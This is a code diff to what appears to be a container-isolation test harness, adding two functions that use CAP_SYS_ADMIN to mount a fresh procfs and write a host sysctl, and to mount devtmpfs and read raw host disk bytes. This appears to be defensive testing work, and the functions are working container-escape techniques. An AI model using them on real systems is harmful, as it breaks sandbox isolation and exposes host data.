@@ -184,6 +184,26 @@ def sysctl_write(path: str = SYSCTL, value: int | None = None) -> Callable[[], i
     return attack
 
 
+def sysctl_fresh_proc(path: str = SYSCTL, value: int | None = None) -> Callable[[], int]:
+    """With CAP_SYS_ADMIN, a read-only /proc/sys is no block: mount a *fresh* procfs inside
+    (its /proc/sys is writable) and write the sysctl through it (mount(2), proc(5)).
+    The mount lives in the container's own mount namespace and goes with it."""
+    _remember_sysctl(path)
+    rel = os.path.relpath(path, "/proc")
+
+    def attack() -> int:
+        from . import _libc
+        os.makedirs("/jap-proc", exist_ok=True)
+        _libc.mount("proc", "/jap-proc", "proc", _libc.MS_NOSUID | _libc.MS_NODEV | _libc.MS_NOEXEC)
+        with open(os.path.join("/jap-proc", rel)) as f:
+            old = int(f.read())
+        new = value if value is not None else old + 1
+        with open(os.path.join("/jap-proc", rel), "w") as f:
+            f.write(str(new))
+        return new
+    return attack
+
+
 def read_sysctl(path: str = SYSCTL) -> int:
     with open(path) as f:
         return int(f.read())
@@ -216,6 +236,23 @@ def mknod_read(major: int, minor: int, nbytes: int = 64) -> Callable[[], str]:
         os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
         with open(node, "rb") as f:
             return f.read(nbytes).rstrip(b"\0").decode(errors="replace")
+    return attack
+
+
+def devtmpfs_read(major: int, minor: int, nbytes: int = 64) -> Callable[[], str]:
+    """With CAP_SYS_ADMIN, no CAP_MKNOD is no block: mount devtmpfs (the kernel's own /dev,
+    holding a node for every device) and read the disk through its node - no mknod(2)."""
+    def attack() -> str:
+        from . import _libc
+        os.makedirs("/jap-devtmpfs", exist_ok=True)
+        _libc.mount("devtmpfs", "/jap-devtmpfs", "devtmpfs", _libc.MS_NOSUID | _libc.MS_NOEXEC)
+        for name in os.listdir("/jap-devtmpfs"):
+            node = os.path.join("/jap-devtmpfs", name)
+            st = os.lstat(node)
+            if stat.S_ISBLK(st.st_mode) and st.st_rdev == os.makedev(major, minor):
+                with open(node, "rb") as f:
+                    return f.read(nbytes).rstrip(b"\0").decode(errors="replace")
+        raise FileNotFoundError(errno.ENOENT, f"no node {major}:{minor} in devtmpfs")
     return attack
 
 
@@ -323,5 +360,5 @@ def loop_attached(path: str) -> bool:
 
 
 __all__ = ["NaiveContainer", "Outcome", "run", "chroot_escape", "sysctl_write", "read_sysctl",
-           "restore_sysctl", "mknod_read", "Target", "kill_target", "start_victim", "HostDisk", "loop_attached",
+           "restore_sysctl", "mknod_read", "sysctl_fresh_proc", "devtmpfs_read", "Target", "kill_target", "start_victim", "HostDisk", "loop_attached",
            "SYSCTL"]
